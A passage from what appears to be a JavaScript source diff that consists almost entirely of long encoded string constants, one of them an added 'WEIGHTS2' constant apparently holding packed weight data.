2|U~|YV?S:(uAF;qeX;MUun$2Y>bgR5]OB_xBljT-[nZ/ESYCIa[|_(a~ZS;n,PUAe[]r*AF[-,lE_y]vxUD8_F+^Y7xX5RcS75Zxq|FRNERr9aGI#%7<d*c%f_D9B$)x9X1s=%574Zga'mZAJO?f;r-eAcTsiMONj.9vlXZW.|mB_1]0y/tc,nd1[<GzCT8ks<24UjX#AD@KazFz`|%VE#em-[f;jp(oL(m9{yOj=XdOE5HQes-G_.c2(]LmZ)#u_8EoseS:D'be>_3t%/^yWDOSE^Z2MhaX'&<deAkA.y0Ok}p7(I|u+B[cay[d6]/?-z&~RR1SE3M&F<'C:1z/d[pBYf9-w|x*_B|&8~<[Y<U|;6:gK?E9D_{Tlw7jB8rE&WdPHP|f8(5pT8z.k2%{PlAlo<nj`FA+oV1`FrIaLIZT'12EEBR&}Z(hW4$bF5{FX?UgD2x-cQ~aIXRIEpQ./x;fYHY_1*@$LQft(Rc1O]:58xEV#LR.}/WX{(>Jt)cxdA%s^gp]J$WZt7zA4=z}(tsF-ieU'l]fW@q5@c4k[BO&_6daz<3|;8<L'<bYpsr>OC1|=z9K#:F7%N'1z3]2Bmh?fm$85v{XK*DYxnu*XJnv?BS?Q]rfYJFOVx6sKn&0$r}6/2XE2BEL9vS]3FT'd04`udYfv~$ox$W^1yfi{@%zV6iuA74@JV}P=oP2^hj;R~TBC^pr|Q:rJ#HCQfR>*ZX|]kIM~|f=;]y9t|k6.A2X)10Z@L<RCyG=;GVqz23s/q'p5JmYlg5%*WRy5cH`~nbk#HG$'Z[e4Y3HwIv_i$^s4/J({@$h47eNmfcXmkl{vP?0,`MS4T<xL`~xE[`o$wR#z8kGi$}uf,C-rJs<s=K/OLo/_#|iDV9Ee}'|3@38]W'x?Ii@c*<3&*/~&4p%[%D2TW[e(`b7gZqzWKOuqk2e~;)b]m|O'dhR.P]bXA'~`,/Q/V?i88h}B|/+^uC#1pb{ZYjWN#=7v7NwH$,m|rTIEM++R^0L07Q?T<&bt>?J.p?u$t{D^}Db^Srju)zNo}aL[y?'(ySG7UX-[$4T/j&x{]krV%R*l*=zKaV2mO<XHkCUGce0z=8298/DSdIA0Lz</CJ)k]I6%ozniQcVyTIX^]HQ3|Vv?/#y;(b:w:1-#Ab|e]I]WVqi'GeSbFB[_K%mx{cJt91dHwb*2,ldXzi|@:1#l#a];_b@?wzfOQp}`d)59vb/dC8`w43rPVR&%RpW.h*tIFD7T@IZ3lEDZ.w-%%Z5)KeCpZV,OYaaZ{S,m}MuT/us>mk,X~4ud;,yfOLrg_*Ek1%s(,qlbHC$WY?M~S(Q$$',a[td]*h#@G~IF,lLnO5^ljC7C@FN&jts0%7'-g+/4'Lp7a?2+D]Yw'-+1XNiU02YG=5lfOY`<(`aIV='-oNUHssp2y[[ze$1QoEojX*ED~kF%NOd1hy4<A5r0RG9~?JT^yxr^D=:1OKm#i4W2,1W*Hbl-#P`{O{x^=XdA+bf(}aEf]k.qn=2Yy$aU9KNr~e&mM=JW*4nueHaRu#zG1=X)t{*9@`g&Er9ZW0Rk:U&/`J0U[WXgg8Nqm:uK>NO8yaLi(7KOL3wktx`~eoX:<<(}RT_tE=6XJl#[O,@~}[l-X?z;j.I5<ub/U/GY`4xl#fxb]K2}F[33O>:m%(`6A;LDApeP>5Dh8Y[Fg&dE[Qk5=QRJws<P=]=:waq^=d]><EfG||-$,YrFz%6m%.ktJ|ym)DskyMba`a)0x4f#gL$d$EC2'6Z'DnQj)=qsPFMUA1+gydFQ9b#3Y@]l>p?wnH9.(4'VjZ9n~$:ICv|AEsG'AlGGofpvErxb<*cnl.~8y8<XAm%w|]KIlWWPl'`jA6ry]|d]z3AFjbvfSSe*{;]$swvAs=zb<GP_e|hM(y$5<qPN=gm))Y;]`MVDA&{$X=+h4S[&,#&?oZsM0WnRK)>qKg8d0.$KKI]VWAhc^%@]cQ(Fhv4QF`Rr9wBi.T~`=i5QVe7pzC1@pP;z6IK`*rZ]z}B,jgXhM~Ryb[o^L4%rO*arFy.^@h)RBSh1KH+B=3h%I~{FC$PP}24|DwdH}*7s_*3*A4#F0XdKJtU+9m$l$@&#eT077o0C>kK*C'Z1p:^?b3@4B47AN)?`PQhw+sy2WlwP7Q|+?^nT^G>Q5Z(LmrA1;5fOxIh(V8:P)`,$CdpaYZVvH'AP6[k&A'@8X}EWu&kRKvU3C%hiRi`lVHl#%%%MFg31Uh<3Wj_'C'kGl62t8YTkLhKY_nO8x~gKB,$?iX700;:mc7QZZFnKx'`w`U)Z+8{lUu=Z2>2xdDSbR/3sg3LnvyA*P-/M;T%%un-NMbg.cOOezz0,EsKe4$X-?9&`][&Zctp<pkbR14T#.})J)5Q_-tdNauU-IuKv$9r=m3'{jjMAj(*T$fq.3)ZlpQ'a>XU@p9ihj9jZ)3U/}&L_H8Ly9pK6(Lx;Fyg/1Xm^JsRT)lEZCKeq}daFWo=P}'~,8W@#ips4fk$;U`ZI4lD?QL`X%e<UV:Tm,kb)`4dB6j+k^yUw}6<;oo79<sPbn2UGPI)?*#_`Rl2tC~rRLsTHZ3-3gsn=(C:o-:+r4z$95EhJ51@yDx5YI$r>IE'{dx*<7mU}@w,W7ypl9)Pdb?t[Mr/5bN(rU_^U$)-:z`XR&vCb-cd_<*FG^4H7ZqT|Z)Zf;49)wOJ+4MW;hfG{/Y^t/N9&fgM3DC@G`t-})t~mE-.<Arh|nFF>4gRgPcy%&>kKP}?],=&Ub^T{QS?tsR9isG/uqam7Ucusu.7k?c^E]HNyUw*:lBfy`|z,w)wvws.)N4zkYx+@mu@#IV[jsxow2D{G:ihN#*aEaR]@2n&^*q#_;O+{3wgdZCi#=yM9rgoJC74|=4:t~%?(w*@zP'j*_fs$j}(_]5dZspCi84wB9o9u}h_r>}Mf?EUBq$y^=Q5ZR:w<iIa3nUn.2UCCGnss3j@@QhTcyVTHxO`o^U%<&gR7|ubLK&RKu2<oVo1eKGe;[E(;d3W`.Y5nNzoxkcJN^w.5COan4'03q88C.I=cu6({<~S.#)`vv8S=(U%jYAWYm@5K%O5~#Vg-bTaPU-qG184h)>|XQmZDEccC'cBxp)='uB:]U+Fv_Ks7uw.Vks~Ic;tNeJ*u2.f8fIP).TZYOl@vnoec-V_mL#d0yk(O<haHF%e-KQrqQDHngOi{d5~7Az7xfyNf2Gg{(uRm#mnW,47uf+>LSSu678Ro.9>Zev1iFh*n;,~gjSaoV]>W^Kr78toRZl62lBQ`]K|I=j^=DT1SX1rxJHCLH45N3V({caO$1;+5Ekn)A}9og&o5/WiVg}<Y~qCK4ZZ>pu77q.p]nRZj[W_IE85%{~YdR<(hrBWXgzpg?aI-[zyal/8Ik1'*&;>4lgm^Y[kR`q(dkVj#%)3e.x[.^MHofaW2~:RUI9z31SYK=GI$5*f1MqB`^2dny(Yo({_p)$C12TUB+e=WZ+c~K$[z.-To_TXH_(<t>&}LaXi]?i]<%3~52Za*c=?DAj:e3#<.`k;$QXmsyq9=:,A2;eaHPV4FlgX,JtR#M'jqW8EW@%(dZM(X1j&(+l_LE%X24YOuSr#RTGdq7?HO$[b-z@E/=Dkr<b#gkjQ}z):XcTy,@#}3vO:r5G6DKW-2r$z`T7Rl0w1]<^C>sZsIXetR7vsa>V_V+]Q[b*{A'|JzH>b(Pr%=Of71IX}w-tq{_v#mIgbAK%npyY}y]56&nim&~?n[z1}m{E%&iy#~0XXig^^=gy5zXTrc`#)_jAA/:ubTq#z&k=M=aYatwy$4'O%Zz1FexsF|OJW,YJ6kwb?h@1klTTT},e^$+[=y(]k_NOxEgVj-?oH51L7kq*B~Lok2M4/,{###";
+const WEIGHTS2 = "$#7q#e1m6;I7i_.;uaXP5g`('0t&5s.tg_Q=r2NN/bg0r7>'0k.eR5wUVAKXLYvl(IyM8M#dyC:0oG3,X>#}j.S;IBA4}o5;+=|n2KT=[lK0jdVxK{JGQUv~+n0CWQ)'Fq(?yeE1~Ira%G[fQ/rCOIp+$^5fAVWxem8&5L;)gh5^$cs/;_6hbm:ZSWU6ngAK-ma$>sD~8>rc'_TgZ8EU5%`7$HTCD}PKeR9qH-K=A@{5xWu-n7L~e#ry$tQbo{LJ#]BEwmgQR_zHD.oD_r_{49(E_b^MU+lI*:x-7i::9u`k?;sG5v25knF,jLe:={Bmyy+bmvp-&.[)5<VIkWsU0`;=E&erte=+JM.LL9Q`],$3MnfELrc<gX@Ux9~*otpog7)'C,>GKF@](LGpn1bxnKLK/n@QkSp?>y>D%~sT#8(JPglkEb|A+tCe1y`0_ev1+*uD5i=xFJLx#TB`h({I-r`u0D*/Y7`F5:8*~vL/([OzBGi1T%lh6QzIswFkr-RJ5*00w9zH:(_Qq>}#ELHN^[LjZ',/hpD5p'xje78V]?Y@O^0$))|m4h4wfUlQ$U6prDd/R;jMj4J0>.23HO~W-`P=x[To^Uv?2KigD.0;`/4c%jns#(czStII|?ib{A-K*7mA?FC:LsK`U$l{]wi3-w{jq99@w`&vlAbGBNne0N$r^eO/k_y1$Li|v+xuz$he]5047xBt~u=9F1aDMm*M6RAJK>)(gj`M99d]q$ie]_=RY8/sfgV^<V%qIoD?-woQSa]|[%]-@&na+HBPBirCTa4nujxX|Gf1nWP[7_1ykTiq%s220wVa%{pezip^=S$2p0K)k:75?8;SxH>LC2KE[0A@aJQi80%['MwmW9n0hl]xB9H|-A[>dmC9kG{tZv%i8{e^ra7|`m1I&T?]j#EfEq6hdNOs6+uJKM:zB3R0C-2M,h}V.}xRdzpeX^)UT/jc@o@4a}_*(y*4M,@b|8S~(OPh#Csd2#+%u,yW.IOT$Jvr[&/Q~}I;f+T2*248ts/CUOezOef_+V.xOyu/{6+w*D<jQrY'G,bRdIO,JZdp^Cav>$MZz0W]e-`UG*G-vhsF/J*+)8fU}<kdR1{c_'1U('N7*k[O@[x;/w(Beq2vM8v'g7i_|x@Qvx't''Y}G@OnP~cc+9|Z]'^*2vEwnLG#@C#g9edF$4*+/<%A9|N/E^24}LSTOy-u`8M?~d2w+,wmyB1]:pGu<n8b?m03)uj3F4N}bO,D[~8`^fcrgUh&=1ee26bix}=,lWXHlS&qL:|OSq~-qHLXTI_vD1$w%LgWEu<KCjhUEH0aEmY6sjG>fHns-.Xxl[B>E75u'Q@'>r9C6k$]Un:gTE,-EE:D?D(wj@DT`d>E-riI,<v(6qap5Qm,KeQF4e3F</~@)f*c9e=DD{c6W6T*7X2fT;d&m+twK-'BqCJjmOk?v-6]xk@zb=$5{EElU4*`Dnj[S^S%?4/ANy.{Ia&iu5S+pn+f.g@m.0[0Na^nH[$migHcQBc~=IDr6K<xGI1V=h$OAJ+i(&]gBDm`b~-a)F$',e'iW|{|1ign2QQ_|vrnx/rLG=LvifMa}=+kEX9c__fFz:4hQ;dBI5?4+^;-G34]>vRs(9dcrAus,2#)-X<:Kw;rtfPOX+r3A]x;^mV2^ewwOEn:$)>kBe^3EX0r.O*~eD,6WfM[0y7gmrlo)%&Xh.gubmdwkfd0OND/>=4i5<>j^4-1=ZZM_xBpThgHwzMzFJx,nF^HXwnW6oL2nZx`aL6(856(6SmKj3_yT%ks0uTX#@|$n;zV39YI]0']4W&h,uIuKq7lksMbflr%pJZDNR(vQ,Cc~|'9Zn=SF%;{gFfo)OIwD#AvgoO,ojFXF/LB.nkf(#+rwrE}q4~mi|bK/m0rU9S%gr}Br^B?oLm?Aq9$<AL^HDe&zWH_Di';Ls1:#dGscf-}|)rVz*>cMhUF(D<,gr;l/kog&]^w?JD7dB;N_`-::Ld;9BnqOrb%v@.v.G>{::w8%F}qlf`+xC5p($9^@PW}(HRY@TLs0-fqZ8'(n<BdV6se]-12L0ukzJR*O^v530).:/i~)]+sE7p:XX6N4d3L_n/%%:}'<)=~@o1z;764_M1v{<7[WpXXhK4I7t)?J#0kfB<r^8HwY;ITF|r@ujYt@55O`3;a0EI(|,QijS(]*gb?@f#UlNQAblvlM;KpqLM3mMy^d2YEgI]u)*?^[JYO4ymO3'whH7LW$k.U2g_lnGNN4*VgDHg}ZkVR#o'FOosI}R^ed+)Qrt')EVqL-E,TwMyyY)'U.&TXx'XhN7e74PA3XU=b9Sh?6+rAk>+9bUly+s^ZG&c@,97>{iuwPoT;Bc._YdbdgBp7N({ucJ{d%j6_=(JOoq9ON&=a=[K[xu[[aZY$PqinP_oXfu3crG3#QM;:8}Q.j4/.Jq|zLIcr+m=TJ_Cc_A/hvWL[zrHcw}/>rJJNrFmok]Pb;c%*T15fB)'=*7S}1eviwsuBs/y8rF:2,|=(zTvSld,`XvA,Id94OXrz~Wl4:'U66zBsCb@r9L[DX`~roPbOE,$T-fI~cGY'G?)=M~<:V,=v=R2<;&?D<w}>Y_PPMsb6He#'hhdphqq#nOPaX.>>99rkwXl^#/)iEuF2bs0IRdhfeN(QtV>,W|u@mE#[|FlD.eC}jSK?Ocfs#=rW7..*VP{`2(I}>C?z;2#>@^m+R.kY@a]qe](]S`+u]Vow~14b*{xSYf39nyVd=dDdEDp{>ag4n%]$Xj&x&>$ej^u.~:hqVSJ]C@2bxLhY+}Z:+[|9#Qy,@Rd'9#_gpGY>XSB-4Juci)c?_A~9{+<E)vV?byAUFEq(]j#*+PM.{@z?L-:qpcjo-y6|kz.EB=:zLkJjmMuIUbNO}'K?l{'6A_1%?XHlX7yw+xH@|oTW_ZY7dgCzX[vv2cCcDeYcexZO&:):MEEP+1`*`&e/0Jg:2#e@%`5$fj{ta]m^@msXU5GiFBh$?fy,*CKn'R(Ui5Zf:F)#bdNrYlqC7@85NZwjfo4VoH0z[p]m,Tpt3$cr5#|brU'>qXq;G_d`0oNYs,s#xI[<|pVY2|X_AW<e5j}q}b<2rt#}[;o/mAMY6q`tw;m`.-2C@'N[v$]|MAQcS||kfS>$J**tk4sikq9AhD+<e?U|m<jc7:t$P7h:C>Y`.d$1E}]`_a{T:wj[QaM2I>)vDYD?eB{.R'=zSbNFE{<J|v}hD5O?7{Lt~yzKl_K[A'+w3?jQzRXQC&CbJsf3k>gCh&tZWOFRLb<aE6LSlRK5FU*c4s^xS:%mMHZ8^khD`63?Lz~Q`y@7%u*]L$o$V2PRH{n;:Q6|c'Y2XlT0LJ(JL1-'.vn|#XL_{-rB6]cY;UD`43I{{|Daz~ENaJbv5Q.nF;}B`u==YKJ+ap1MBbDPn<Odc?cf9uD,y6$C24#(B|539e|Df(?aD8LZl)Y<1+AEnDZM6,3;[qW4=b2s>TfIQE_3vQgLI_*r'/wc3N+hjATq1(6=YU@rEWE<8o#rgxGpo$4z4KN,5(ZIVyYwU[hrtpr)[T{'Bdm5;W1u4dY2})|T@W*~;bzf7VP9_V[h>sffd3Co[J2HB=~0iu624c<YxTR0J$NA%>?=yF|mGJM[t;yhKUQ-nr-am[ki,8oKWlj4;3Yx=B/ACnP3<H[Uyk9acb1MPm-CP2LQM`v6Mc73,bveRs^Mp7E[~Pi6GLF;&8.Op1VB~F}S,3Z^L}=U^a~s@.QjdGzI9U|1;7@m|yNEYc6$J0jf[jY0)LtLHZ4o2UB|3a(=;6n7b2jeA|M$C-d<]|8t.{Op<{iEf@56+Eq9/-3&qCF@(sl]w{+mk[Te{Z3iGkRDP3UgX@I=naxF_R%$X8QN%(W,Ou;Ai{JFrC5oS$F3RR]?;c%-P`MD9'dFzN'5SQt)]F?}MnJdf/^v4GZcwfur>[TX{]DZLR=6z$;Q?%_UCDrVB>7:)VQp$6T]Z89^j;N4P=3sn<Qw{;9P.=|D'l0B{VzXyt&lfsck]4}><)wg~kzGN$E@5kSD#%Rs'E`d%se%|%S(<8&i(8%op]<~>Q^W;0@A}|UxTp*Oyz6~19#=d1nl4gEVQ)>:pPoTV7^RsD#~Li:>HZ6dqh}U3}2F=36),k[usPkU0x~ZtDvRWOlr^7WhY$,]o>j}@e-lh@8<hh3A/&]NoJyB76RKQs+AldQLyfqA'lKWzfFbs[cTH]wic(X8lG]TVJ;OA8cO_ZEo6#2]%hk<($Ea++?AO.~p`,ZGyZ|aXh]7=E$oh#&<@wb^8+HQc@g}LzJhk?JV&$K7I9{SaO)cw&16|=)nuQE1`bKebV6k5(tUIH@vX$_XZv03,_q$@}TPzHw0Gf-{#sBQ.|o8F)[cACU}}I7ki>9;I51J;&D/IY(s(d''tZdDSD1nk|uKTpV6q8<ZMt'x(zJlG/9Pr0_ui%{s*d.YTrNnBJ&`0_]VM/`c(~Qq]X7IPPIpuw.}TuFopn<i3Tf:_GK)}4C9AQJc9@p6U8vCW)]ioqQ4GYUz=Kau7QlB,b]XukrR2mjL6+'STS*8y4bnEY]=0tNBR}a7u05;d;(mM'Z+R}KnQ*-T7^7y$`-q`OEo7h<cCc>xb}k0{:k%0~#3V]HC@:Ie79kcRKe_+s}@B=ja(Y;qb[[C)oSL'nzkRxNEcM)<}]WhKs<(g2SmHg]^%9J^`dTrXN=2nRg#NOUG/~Q,Ij{F<1+c#];mP1[(4vG.L59Z?d1aCrx?m0I.L#]W(sGsHrh_2nT(ks?hc]2S4z=:drV|$X?a7vE~ss,/yBrW#z^79zB*bRyubs]>xyJa^76ymE~(En8Nxg8hoXHZz^/UN1A/N]}w)?OkItcKbGC::_i)Q-n;u;HL8LW+:q?=@y$<A(v6yz-,(8>sHO%Xhc[vOMO4v+}Hwt]9G?L?2i$?idxNIkd*Wb*Ct_4f9)ES$YG)lvU%EZrw>Vmeu%G[m9/.XlEIiy3mvm#a[d7>6wiuDmy8nyD~(H(]?BI4u%l8ZF$jqG*P/t)(hCR)BC8Y*A{:hn7%FQdgcP*D#5zLCI*mmUM24z:4'yM1uKv^5'`MVY/,1@40~t4si~RQ'_nR0U$ROiwca8bW.')B:0}$;rzj4V'.jv*O|]OV$~OY51QXJ~k?FBDej}L`qEsIy[(0d|b&o.u{AeCr1-Cw].8=UB_o0];eS:aP19sOOV1xJ)f[iP(SlP*(Fo$<4R1_)7a+q?PMt[PS,cpj^0H?[gS&j;cDE+K#yaFp:ZPa8+C1]gW?=_3)wovy=#e^`sZs,j[=L<hB0BX*/|-Pi?cjD93IVEVNc-}@N8ZbT.0C|croEHJK21/,|YN2(_9Nla8IW(?aRoBr&YwU^2ew<#l]vpcijZjMwl?Dmhu`KE6XJmWkv6,n;ta_f^x`W6JR4RyZU3Y+Vl`)D>7;6,_]Zu=^r,LSa,PL2YQ/f5'ddpGV_qI4gNTH$,8z9~D1'#V~]^r*1$BX.X2`T]E+REX)Z~'2Y1]D]L5We9Jcvc3B(#{_11v`3|r=[d~(TRyU&#cN#m>Rl;mTf~i;RW7y@~$XYqq.ZY;NLvcW>2TA|SeE*/i4PCL>w$17*g=KnF&Xzw5R.Au0V1.x^UfIf@04(dCEv|NfV?EE5mS>q6}^X=j#pJ1Vacx}l=Eq2Bc11i*9|`1/q'KpHGZ+C[%iGu=bCUB[t8FBWp}fVQKzr='3AfP62:wmJ%(aN8a;pZW`RJ,DSe*KDQt_(f(ViRJ<+D&$&-FeKyP2[iJKQfBQq@/ExVSJZueLt19efc@8wFwaDwK/6n;r$F)_(ujlMV}|)FP_UEF='TMU41`i^(k4bf#a;3i{5l{Kxk_(Zsz>U9zFct5+|NDl5+a@HQPdH<vCWaM_F4{3=a0qcfak=@4jkQ_S))p`KD7)vCS#:~&^aII|7jh,`<$FY[`cf+(M@O}?p)%+51R`t*qDYl:U,'|N6iT*]fqYxD.WybAfzmfK+,BFuN.$:*7fV{1ybX`8{9+:7>?F/*cU(2:my$L~D)DJ>e^GCp.W)fZ}wn@jO,}Jyd=<Mu~(*gNs3S%.5jRXGPr]AmxLfq95d,O5.:5efhM=,i8}b%=np$6d`;SrApiM+3ZUFM*UUMiTu}(gjLvGz7sUjw6A%[|9{2{6sj}7QzS5mC95fEd<%,0K2t[)i9%3u$V&Ymu?0l;}>WcB/N`xiccjDV<G)^9Lbpb9XiLKLKWm`9k}M^gt:Nx}]wxePOZE]4bCS@KWIv0XY#>+G5zF,p8P4>7D_v9Wybl:0$Lq.w/<P)JVcDPR0(q`N*Gh+Gu]%~@^fDk3RO@8/KwtUo(ZWSFz(%7m?E&4LI+Z$<RRBdKumPk},cTbK6%Rmz%0#Ovw&lbkm%hMGJ4]d]bK}-8|u-wfF:Y?fn~Y$n*ja@~$hwSbf~*26M#eVGhY0}J=ec+j@D]wpA@I>p&cR1sJZ|j|{M~jrSkW0O5R}|H4Kv+[Y'[^i<1H(PU@Idb,&]-.J56|';)cYKr<Gb1aYA*WB9k^s0'%@DS4k{F+TL37d?my)&SNJLT:aF4}L]p=:cw|`VqTKWRFfi>,f%rI;U8viD:vzYygK*L`xsyXyY$YS+9HqLSR-#eVuuy)lVXpu/_r6BJRosf%/JM6.EsT}wV)X_3|*dfq:e;$ZrP,ZA2r`EN+,$Nkr/Sh0H_4<Ot9H~4s&<`:E6Hm+J7MqM8c8:k_&x&i}@OF*`($)Xa.ij=g6Bw}MTnyTS'{/^.$cOT~en6yl>x1Uin-tblyeP&c6Pz>B:[1/WZ{gjk2IJD*8Te)Sjh4,3t26i84MsQ|qh0BQb@s#B~2}[@(Gl*N8-dgKX+u_JZ43KrJ};#e12rtKGqI?}GOf>C:e_<s<xI>FesPL495SGI;>e`(?fjlx>@H.Vz/krM)zc<OU3GuCeU8}Y:okeOUxK6[@.)tFHx{%zXQA/_ZVY<$U%VA+)W*9h;T}`jy~m6;le/dRguUka{jKN+_p}:[_?2~.R*GEm?fMDARQv)5g=-84kY~Dak+[Di2qG6c.Rn(EMHn'2Bw=Fz(;zNu@hv$5t0pGZU>JP,5:%j6v@F.,90g-/K3=9/nkZAHLvnc;0q7]Y,Qa#&&g(e4##ql4=3|z?p+.0enZFn0<#8Nf,ltKL[*;ec9VAsZu[Cn6yK~+P8cDUmm`}ts53bpLHP@b9N_'rkzma=5/+s&CzI`5-Z&9ear>/7@Mp...gH,IG,eP'9-u4Ao]-n+TE;*pLYY'PJi%0EK6qEH[Ixiw=D@AMB&qqn,.A`7f8+uo1O}|GI})M8_I=n0*X*ze;#GkL}n}r(0KUVIt?S.(Hk(rMwTlEZ=B;P|S%*]J`s])Q0WygxN',?{-0:_`pBz1TOqc5N?|c6d)%[mRS^T;C%g7`8HONi^}}sL?NxL5co&GZ+;9Xr)XKe^dOl(M3.aoY4^pv{%F9{/rM>:8hj}3l'k13E{2'P.QY=OB{q%v[+ru:u59B+bVLG%%0*,V#oL=J_hF%'wnzIdpp$f7Hjw.,w+RfvvkcFqnqRUqInn`MVZ@uSketBwT=j{ZB|vEMCTr[H2|.3jX<1-`4G~UK28o+u7o)~,e~|3lUo0O|3Gpyl[Uy&VhSD;s}2*73q}5A$+rn%4zCDXjQ1H&y*C`19/1h2jn{0{6pfOl=XaAd|]nsS%-S@KIekKhe(dyg9eh*BJ$.KZ_|,5eay<zN:{2jTEE?LVc|6=%:J&2-<%`lmHStWxH=0N&hsJY]jjdP|rgK^owp;W&*8#mZbNr@$oYPkx`Rzix4>nSXo]}4ho#X]Miv_P(_z=||G7oz41GPNlUjUfeD`*O'aC5]jE<D&wgk8=mM3?ngsx^g|FH/r#X@$$=4YhU<H~;bh,I#CZX=<X_j$i0@StVWc%tn$-(+&=xk-H<un)x0q:i*twPI%uZnCvw`R{H+|Oogyr4w#Bzj%({dL`5pHCuiV~ZH6E}Y&Yhy,&65H0Q^x`InUZLph[4YY`<0=^exF*k1mJMHh#80/gHuX<[]RbkwtPaD8$kxRd$)SNJOC</tF8|+cRTt,r46^25~OzkTqrkdp94iJY}|z,anGWhr-5,IDZ8-2?D?mT|'xB?oSXvz]k?j8jdD^$T6o9]mBjjHXY[0%KJMajC=mQs^BAR7Q@'#0iguwEp.H4YV2><0>00*T&D)a9sciKeAwUd/PuF?Vd3pRKnbo-I=ZYYrW-^AylsZx(yiWm8j~xLAzj~A,3lRt_QwgSYYAN$Ys[Ct4E[K#1l5Qwu;pI,4AG=1qF|Wtl|5~#g*u|q/uo}FfR+VSm.YajY=WRIICf}u%sV|,<ngz|_Bv2N($fB;bP,y=309(8mK,6i%;.]ms%#2q~:x.'2+c0<QDM]zi|8nIBy~n*p16n19B3.ITwLE00dm>y1A^T=E7>:8f'J[jrTWq$KmKyBUZwv][`s/AAT3K/d:-,O.23<iRR]@6[vHB~Oy@>k`rYs]vjgX3J0#dJs=@8#:+8$?bC~MZRUWsL6c&u#%+2%8*uLqE~#EF@9OL@v5N5'RR]24^;BNHLWq,TM~?ckG.7N1:A8aC*ZSO:`D4Fty-U%(eyJsYbrx1SYej0guzS_M,]J>$#Br=JSTW,zp<b-g/`M;bD=onfI`-pG*#:CE/Y@f#$ndm{Lycx>rduU$h5T-(+UTrC,atwVRGU[[1?Wie$#l{BrTwi_WUIPg60Fn+`UvQ(:3=>9Hc`TMRSOurG#Na85]C/8]/d.37OEzYLo>LgoMUr`[m#D0w~FJPQH&G_tn3_Rn9*xYYv5#)<V9@H;92u<s7TCX@-lXy[hJ4QG=T[*ReFzn}$FB1$]+b9&.fLE/+9Ni10im5`;`2^A)m1t/gd[|l(<AAnJ+2pjU{.hR(jHD/jne=|B5w^9*`zK;^yR;VSD~ykp`)0v+4&Krr%Ru=f6qg^wDr$0|9ypMmp&X8&A^eg#r}5Y&=R07GlN{$ngsdE0Pkadt{A:lBLOSa-nVX8VKTfH-7PvV8oN9r&:kZS63WuN.bNI6[g{x2>?&R8j|pk)Ca:ROgQbn/VfQpM[OY}2ys*~c8A)q;pjI@gJ>jrEptIL{6DYwnI_Vm[i+-&0Gyh0&,|):5tk7ac@/+=``BbSs64OU@-_3Q]LVAB;KCJ,CQ<G2KomoeJ~sRKVv&Y`zY4IsfPLa/w(ouM_-e=ka9l&|Hd&5'NZA{6i}H,Ne,aZq<*I.{tf%?3FU$l_q;ZPbP,0eeDa}rpN^<Afr8ugYZD%VlT`&Zn;4${DMKKsML$Pd''y1/,9U]dzCZ+/tPy8hS[v:p_puHk#jMiRF.E|N+/oi*>`>rV6Wa($q-JA++72X[nQU'yu%nCwR+M+ARc;V:Z+yYrUjX[9Pd#Kv}Pr_#Z-NvSdccnr$H#?j<IJgK[Lni=gq(L`5wmjl_&AI{=L#34jt6LpY0l/DATI{Nk#]z.~8Q4MtQSyFC,%F/w_W8XG#hZyr6KwMc0@/T},f@1&u3bDl7h7xCP7q5<&^rH+x`CT{Pnm8hh'dI$]`ol}HQnirQ5%'z7a}K9FR)|6oTeGa~mg#D/YMl~uq3ZEgf[-w'U#Eojej?Zz:iQ.YB;DTX2[w^^p?PBDt<tZyMwWVXWF3_j~(Ew8Z;jGm~Oyx7@O9WLC6*RNa[7E`K5x2#xV@,tkn1MNFY]hRN*uo@XD6E#:SZ[&`y/upX+X{'xy=6a+}rop%d}yz>du`4R$b'Er*hKRBHi'B|$8.6()~tTSB8=K@6`vp;O(La3>d+nBa)BZGhsMf9xT]N$Wh<m,&BhN[rbcp_I(9I7Ac^4){fm/wv]}2;~p:~BRSkg;%es@=4fEUikl}?7^Ct~;@k^{xp75A|thPJ>;%A|I@$)+D*}OG>Nb?nUB>lJ2DRt$<>tcrn:zMjXIuamb+y6iI8<lJ<A4(sEZP,H{2,,W?bo.0U_&$mV2$P$EgzyOxY<Etc2a{:.]A?dQ:^7WZYX(XbVg@@zY&a|'OL0s]D9S##}#|{jjFt7&'nUvMMd-,&SQ%'&%%&ts(.k6SI]X:=BJYE|zr1e9Pih'0+%DGS4rH;gR}1X*e(lv,`>iN*NH^9Grb=t@}L`O<*b*-VqL7m@T&.5j4*gL4O9`7%zU53>kRg{m6I[FO_w9B:I|a06I+a1h9|46K>1KY'4R9s,-Kl{db2,?aIQ,n/VRwUS4;3G+Vl,-z):wA)wb@#e^v`eH)?;gY.1K*?[(F.iR+<P^X/5|i-X<:x]3dEX3_0h[WIK)**oa6&byk8]`E-4X%03x^G*%P'34+hf@+=%C5kH?6(}m@,eu{=SshDE4}rF-j|r(pehZG2GCv}GHapzr/$bw$s7f,b-Gjiv.ZMkxht]grKE[jR#'KrP,C1+f&fJ5G[-CXLAaL|M[,1mcH97`P3U$mA,7R1Iv|gzkxw3@e6q9=*#D7H,drYg|YLSN&Gy86^{sUg&bt0-uAg?40R`)><)ISQ5V<L]Y|uo_5@~Z]wX#G~nmpkZ<~>f.]G[sB<Nt]qCqCd]|x04Wrg5=-z>4lWzyC>vE#K;.NPv:{zmUe}s~sFGkI+(=K%&w]0hf{aoGH'TM@>yDe6<kS]AH}r{?aRk[JK}X1JD@/@U'Lnqj6yZ_O_g0AP;D`zE[XQd;~,FcG5A^NH`Z^Ysix5gYK_gRu='rX8Dy6yFC4nYyaI$~F]P[%;G]C9&|fs9)P.m=&_4/L.lNw:E%C.ZtoKJoigIm460[,C/Jvi'jqNENQbuk;1L8vL>n&ANw6FFgTgs0tz@j4@%Y]z~XUj>r|m]ffmYByv{0Z5lj`k(/~ez#=N&q<?g8S[{_bs'HMp^Y#2R}E{<_6&x;`s7z>N|v-12MyE:E]:L9d89Vq1y>)BrL?%r(`o],;xUpAfKH-T,4mk:87.NQNBD8(.Exx1IDpN:v{{8Um9bUN@Zj8ua?Nm}0TBNYyd48[TZd|?5yd#u,/<k-[xcznCIgVcbL3Qf&2,a#l606hYZsWMm%I/zex]qn8-e#;|L]&i4Bz?w@/knU.H6+7H#WZQ`D|PzNc:4'Rb[D&C%&A,%7ft:]}<Or&@kQ1Kl{o.6ra6&PWZ^^Zn~u4kThoy0*@zZbltF|Me$r$I=f=PJ]{}`sMF0AMRot]<e6MTE$]#dedrOmS-#}pszb2;_qpXWNy&E0R?kFVvC8L#S?9C(N#CfgGrf&Mxql.bKsVenLcmIca=_kHG$Z5y;e=tZu$HZZwMzapRue(*5dYihB`+P7'aj1&a,YLyZ0ln1EG$GO<iLfdat7[F&Hn-iAzT&ZA0~&S+{Ae7=L#8r$c>Yddo(|=%G;>I3g[JX(qtee:Xcd8#xfrj*I+1saJ11r~/i1